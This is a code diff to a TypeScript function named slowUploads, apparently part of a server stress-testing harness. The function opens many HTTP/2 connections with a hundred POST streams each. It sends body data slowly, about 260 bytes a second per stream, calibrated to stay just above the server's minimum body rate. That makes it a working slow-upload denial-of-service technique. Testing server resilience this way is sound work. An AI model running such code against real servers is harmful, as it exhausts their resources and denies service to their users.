@@ -12,18 +12,20 @@ import { connectHead, dataFrame, Http2Peer, requestHead } from "../wire/http2.ts
 /** Streams of one connection: as many as the server allows by default. */
 const STREAMS = 100;
 
-/** `scale` connections with a hundred uploads each, 244 bytes a second on each stream: above `minimumBodyRate`. */
+/** `scale` connections with a hundred uploads each, 260 bytes a second on each stream: above `minimumBodyRate`. */
 export async function slowUploads(attack: Attack): Promise<void> {
   const peers = await attack.crowd(attack.scale, () => Http2Peer.open(attack));
-  const piece = new Uint8Array(244);
   const streams = new Map(
     peers.map((peer) => [peer, Array.from({ length: STREAMS }, () => peer.nextStream())]),
   );
   for (const [peer, ids] of streams) {
     await peer.send(concat(ids.map((id) => requestHead(id, "/upload", { method: "POST", ends: false }))));
   }
-  await attack.built(peers.length);
-  while (!attack.isOver) {
+  const start = performance.now();
+  void attack.built(peers.length);
+  for (let sent = 0; !attack.isOver;) {
+    const piece = new Uint8Array(Math.max(1, Math.floor((performance.now() - start) * 0.26) + 260 - sent));
+    sent += piece.length;
     for (const [peer, ids] of streams) await peer.send(concat(ids.map((id) => dataFrame(id, piece))));
     await attack.pass(1_000);
   }
